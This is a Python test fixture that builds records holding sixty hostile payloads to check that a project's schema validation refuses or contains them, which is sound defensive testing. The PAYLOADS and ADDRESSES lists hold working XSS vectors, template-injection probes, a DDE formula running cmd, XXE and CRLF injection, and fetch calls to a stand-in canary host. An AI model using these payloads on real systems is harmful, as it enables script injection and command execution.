"""Sixty payloads, and a project whose every text field holds each of them: values are made from the schemas, no field is listed by hand."""

from __future__ import annotations

import hashlib
from collections import Counter
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

from normbook.cleaning.clean import read
from normbook.findings.finding import Problem, format_problem
from normbook.records.schema import Schemas, select
from normbook.records.types import FOLDERS
from normbook.records.validation.explain import allowed
from normbook.records.validation.record import read_record
from normbook.records.yaml.writer import dump
from normbook.workspace.load import load_schemas
from normbook.workspace.repo import Repo

CANARY = "http://canary.invalid/"
FIRE = "window.fired=1;fetch('//canary.invalid')"
# every tag carries the class nbx, which no element of a page may have; every script sets window.fired and asks the canary
PAYLOADS = (
    f"<script class=nbx>{FIRE}</script>", f"<SCRIPT CLASS=nbx>{FIRE}</SCRIPT >", f"<scr<script>ipt class=nbx>{FIRE}</scr</script>ipt>", f"</script><script class=nbx>{FIRE}</script>",
    f"</title><script class=nbx>{FIRE}</script>", f"</style><script class=nbx>{FIRE}</script>", f"</textarea><script class=nbx>{FIRE}</script>", f"</noscript><script class=nbx>{FIRE}</script>",
    f"--><script class=nbx>{FIRE}</script><!--", f"]]><script class=nbx>{FIRE}</script><![CDATA[", f'<img class=nbx src=x onerror="{FIRE}">', f"<img/class='nbx'/src='x'/onerror={FIRE}>",
    f"<svg class=nbx onload={FIRE}>", f"<svg class=nbx><script>{FIRE}</script></svg>", f'<svg class=nbx><animate onbegin="{FIRE}" attributeName=x dur=1s>', f"<svg class=nbx><use href='data:image/svg+xml,<svg onload={FIRE}>'/></svg>",
    f'<math class=nbx><mtext><img class=nbx src=x onerror="{FIRE}"></mtext></math>', f'<math class=nbx><maction xlink:href="javascript:{FIRE}">x</maction></math>', f'<body class=nbx onload="{FIRE}">', f'<details class=nbx open ontoggle="{FIRE}">',
    f'<iframe class=nbx src="javascript:parent.{FIRE}"></iframe>', f"<iframe class=nbx srcdoc='<script>parent.{FIRE}</script>'></iframe>", f'<object class=nbx data="javascript:{FIRE}"></object>', '<embed class=nbx src="http://canary.invalid/">',
    '<link class=nbx rel=stylesheet href="http://canary.invalid/">', '<meta class=nbx http-equiv=refresh content="0;url=http://canary.invalid/">', '<base class=nbx href="http://canary.invalid/">', "<style class=nbx>@import 'http://canary.invalid/';</style>",
    f'<form class=nbx action="javascript:{FIRE}"><button class=nbx autofocus onfocus="{FIRE}">x</button></form>', f'<input class=nbx autofocus onfocus="{FIRE}">', f'<video class=nbx><source onerror="{FIRE}"></video>', f'<a class=nbx href="javascript:{FIRE}">x</a>',
    f'" class="nbx" autofocus tabindex=0 onfocus="{FIRE}" x="', f"' class='nbx' autofocus tabindex=0 onfocus='{FIRE}' x='", f'` class=nbx onmouseover={FIRE} `', f'"><script class=nbx>{FIRE}</script>', f"'><script class=nbx>{FIRE}</script>", f'x class=nbx onmouseover={FIRE} y',
    f"javascript:{FIRE}", f"JaVaScRiPt:{FIRE}", f"data:text/html,<script class=nbx>{FIRE}</script>", f"[x](javascript:{FIRE})", "![x](http://canary.invalid/)", f"[x]: <javascript:{FIRE}>", "<http://canary.invalid/>",
    "{{ 7 * 191 }}{{ ''.__class__.__mro__ }}", "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}", "{# hidden #}{{ site.__init__.__globals__ }}", f"${{{FIRE}}}", f"`+({FIRE})+`", f"';{FIRE};//", f'";{FIRE};//', f"\\';{FIRE};//",
    '=HYPERLINK("http://canary.invalid/","x")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1-1|"x', "&lt;script class=nbx&gt;", "&#60;img class=nbx src=x&#62;", '<!DOCTYPE x [<!ENTITY e SYSTEM "http://canary.invalid/">]>&e;', f'}},\n  note = {{x}}\nER  - \nTY  - JOUR\n"}}]}}</script><script class=nbx>{FIRE}</script>',
    "\u202egnp.exe\u2066 class=nbx\u2069", "\u2028window.fired=1//\u2029", "null", f"x\r\nContent-Type: text/html\r\n\r\n<script class=nbx>{FIRE}</script>", "x" * 150 + f"<script class=nbx>{FIRE}</script>",
)  # fmt: skip
ADDRESSES = (
    "https://user:word@canary.example/", "https://a.example/?q=%22onfocus=x", "https://a.example/#`x`", "https://a.example/{{7*7}}", "http://a.example/&quot;x", "https://a.example/%0d%0ax", "https://a.example/)x(", "https://例子.example/\\x",
    "HTTPS://a.example/", f"javascript:{FIRE}//https://a.b", "data:text/html,x", "//canary.invalid/", "https://a.example/'x", 'https://a.example/"x', "vbscript:x", " https://a.example/",
)  # fmt: skip
ANYWHERE = ("<", "'", '"', "`", "{", "$", "\\", "&", "]", "[", "!", "-", "x ")  # how a payload begins that needs no place of its own
LONGEST = 200  # characters of a string that holds several payloads: as many as a title may have
PATTERNS = {
    r"^[A-Z]{2}$": "FR", r"^[a-z]{2,3}(-[A-Z][a-z]{3})?(-([A-Z]{2}|[0-9]{3}))?$": "en", r"^\d{4}-\d{2}-\d{2}$": "2026-01-02", r"^\d{2}:\d{2}([+-]\d{2}:\d{2})?$": "12:30",
    r"^\d{4}(-(0[1-9]|1[0-2])(-(0[1-9]|[12]\d|3[01]))?)?$": "2026-01-02", r"^https?://[^\s<>\"']+$": "https://a.example/",
    r"^\d{4}-\d{4}-\d{4}-\d{3}[\dX]$": "0000-0002-1825-0097", "^(/([^~/]|~[01])*)+$": "/title",
}  # fmt: skip
SAFE = "harmless words"


def combined(payloads: Sequence[str] = PAYLOADS) -> tuple[str, ...]:
    """All payloads in fewer strings: what works anywhere in a string (markup, attributes, templates) in groups, the others one by one.

    >>> text = " ".join(combined())
    >>> all(each in text for each in PAYLOADS), len(combined()) < len(PAYLOADS) * 2 / 3
    (True, True)
    """
    groups: list[str] = []
    alone: list[str] = []
    for payload in payloads:
        if not payload.isprintable() or not payload.startswith(ANYWHERE):
            alone.append(payload)
            continue
        place = next((at for at, group in enumerate(groups) if len(group) + 1 + len(payload) <= LONGEST), len(groups))
        groups[place:] = [f"{groups[place]} {payload}", *groups[place + 1 :]] if place < len(groups) else [payload]
    return (*groups, *alone)


@dataclass
class Made:
    """What was made: how often each field of each type holds a payload, how often a payload was refused there, and how."""

    held: Counter[tuple[str, str]] = field(default_factory=Counter)
    refused: dict[tuple[str, str, int], Problem] = field(default_factory=dict)
    fields: set[tuple[str, str]] = field(default_factory=set)
    dropped: dict[tuple[str, str], str] = field(default_factory=dict)


def texts(schemas: Schemas, schema: Any, path: tuple[str, ...] = ()) -> Iterator[tuple[tuple[str, ...], Any]]:
    """Every string of a schema that is no listed word and names no record, by its path."""
    schema = schemas.resolve(schema)
    for key, inner in allowed(schema, schemas.resolve).items():
        yield from texts(schemas, inner, (*path, key))
    if "items" in schema:
        yield from texts(schemas, schema["items"], (*path, "*"))
    if "string" in schema.get("type", ()) and "enum" not in schema and "x-relation" not in schema:
        yield path, schema


class Maker:
    """Makes the records of one payload, consistent with each other: each type once, with every key that its schema knows."""

    def __init__(self, schemas: Schemas, number: int, payload: str, seed: bytes, made: Made) -> None:
        self.schemas, self.number, self.payload, self.seed, self.made = schemas, number, payload, seed, made
        line = line_of(payload)
        self.outside = f"We said: {line} or {line} or {line} It was so." not in read(seed, ()).cleaned.text  # cleaning reads it otherwise
        self.ids = {type: f"seed-{100 + number}" if type in ("source", "correction") else f"{type}-{number}-1" for type in FOLDERS}

    def value(self, schema: Any, path: tuple[str, ...], type: str) -> Any:
        """A value that a schema allows as far as one can tell, the payload in every string."""
        schema = self.schemas.resolve(schema)
        if "enum" in schema:
            return "published" if "published" in schema["enum"] else "cleaned" if "cleaned" in schema["enum"] else schema["enum"][0]
        if "x-relation" in schema:
            return "unnamed" if "unnamed" in schema["x-relation"].get("except", ()) else self.ids[schema["x-relation"]["range"][0]]
        if path[-2:] == ("evidence", "*"):
            return self.evidence(path, type)
        if known := allowed(schema, self.schemas.resolve):
            return {key: self.value(inner, (*path, key), type) for key, inner in known.items()}
        if "items" in schema:
            return [self.value(schema["items"], (*path, "*"), type) for _ in range(schema.get("minItems", 1))]
        if "integer" in schema.get("type", ()):
            return 1
        special = {("id",): self.ids[type], ("seed", "file"): f"{100 + self.number}_hostile.txt", ("seed", "sha256"): hashlib.sha256(self.seed).hexdigest()}  # fmt: skip
        if path in special:
            return special[path]
        if path[-1] == "url" or path[-1] == "basis":
            return ADDRESSES[self.number % len(ADDRESSES)]
        return PATTERNS.get(schema.get("pattern", ""), self.payload)

    def evidence(self, path: tuple[str, ...], type: str) -> dict[str, Any]:
        """A quotation of the payload in its own source, or (for odd payloads) a text outside."""
        claims = sorted({at[0] for at, _ in self.schemas.annotated(type, "x-claim")})
        bears = {"for": [f"/{key}" for key in claims]} if len(path) == 2 and claims else {}
        if self.outside or (self.number % 2 and type not in ("principle", "statement", "source")):
            return {
                **bears,
                "url": ADDRESSES[self.number % len(ADDRESSES)],
                "locator": self.payload,
                "seen": "2026-01-02",
                "read": "part",
                "bore": self.payload,
                "paraphrase": self.payload,
                "inferred": self.payload,
            }
        words = line_of(self.payload)
        quoted = {"source": self.ids["source"], "prefix": f"{words} or ", "exact": words, "suffix": f" or {words}"}
        frame = {"prefix": f"We said: {words} or ", "exact": words, "suffix": f" or {words}"}
        said = {"speaker": self.ids["actor"], "holder": self.ids["actor"], "speech": "direct", "stance": "asserted", "role": "supports"}
        return {**bears, **quoted, "frame": [frame], **said, "inferred": self.payload}

    def record(self, type: str) -> str:
        """The record as YAML: what is refused has been told of, and harmless words stand in its place."""
        fields = self.value(self.schemas.whole(type), (), type)
        fields.pop("profile", None)  # names of encodings and rules: any other word is refused (N706)
        path = f"data/{FOLDERS[type]}/{self.ids[type]}.yaml"
        for _ in range(40):
            text, found = dump(fields), []  # type: ignore[var-annotated]
            if read_record(self.schemas, type, path, text, found) is not None and not found:
                break
            if not self.outside and any(each.pointer.rpartition("/")[2] in ("exact", "prefix", "suffix") for each in found):
                self.outside = True  # no record may hold these characters, copied or not
                return self.record(type)
            for problem in {each.pointer: each for each in found}.values():
                self._mend(fields, problem, type)
        else:
            raise AssertionError((type, self.payload, [format_problem(each) for each in found]))
        for at, _ in texts(self.schemas, self.schemas.whole(type)):
            self.made.fields.add((type, "/".join(at)))
            self.made.held[type, "/".join(at)] += sum(self.payload in str(each) or str(each) in ADDRESSES for _, each in select(fields, at))
        return text

    def _mend(self, fields: Any, problem: Problem, type: str) -> None:
        """Puts harmless words where a payload was refused; leaves out what the schema does not want together with the rest."""
        parts = problem.pointer.split("/")[1:]
        if not parts:
            raise AssertionError((type, format_problem(problem)))
        holder: Any = fields
        for part in parts[:-1]:
            if not isinstance(holder, list | dict) or (part not in holder if isinstance(holder, dict) else int(part) >= len(holder)):
                return  # left out with what held it
            holder = holder[int(part)] if isinstance(holder, list) else holder[part]
        key: Any = int(parts[-1]) if isinstance(holder, list) else parts[-1]
        if problem.code == "N208":  # one of two keys is wanted
            holder[key].pop("url" if self.number % 2 else "source")
            return
        if isinstance(holder[key] if isinstance(holder, list) else holder.get(key), str) and holder[key] != SAFE:
            assert problem.hint and problem.line, format_problem(problem)
            self.made.refused[type, "/".join("*" if part.isdigit() else part for part in parts), self.number] = problem
            holder[key] = "https://a.example/" if key in ("url", "basis") else SAFE
        elif isinstance(holder, dict):
            self.made.dropped[type, problem.pointer] = format_problem(problem)
            holder.pop(key, None)
        elif key < len(holder):
            self.made.dropped[type, problem.pointer] = format_problem(problem)
            del holder[key]


def line_of(payload: str) -> str:
    """A payload on one line, as its source holds it."""
    return " ".join(payload.split()) or SAFE


def put(repo: Repo, payloads: Mapping[int, str]) -> Made:
    """Puts the records and seeds of payloads, each with its number, into a checkout; what became of each payload in each field."""
    made, schemas, sums = Made(), load_schemas(repo, []), repo.sums.read_text("utf-8")
    for number, payload in payloads.items():
        line = line_of(payload)
        seed = f"Payload {number}\n\nWe said: {line} or {line} or {line} It was so.\n".encode()
        maker = Maker(schemas, number, payload, seed, made)
        name = f"{100 + number}_hostile.txt"
        (repo.seeds / name).write_bytes(seed)
        sums += f"{hashlib.sha256(seed).hexdigest()}  {name}\n"
        for type in FOLDERS:
            folder = repo.folder(type)
            folder.mkdir(exist_ok=True)
            if type != "correction":
                (folder / f"{maker.ids[type]}.yaml").write_text(maker.record(type), "utf-8")
    repo.sums.write_text(sums, "utf-8")
    return made
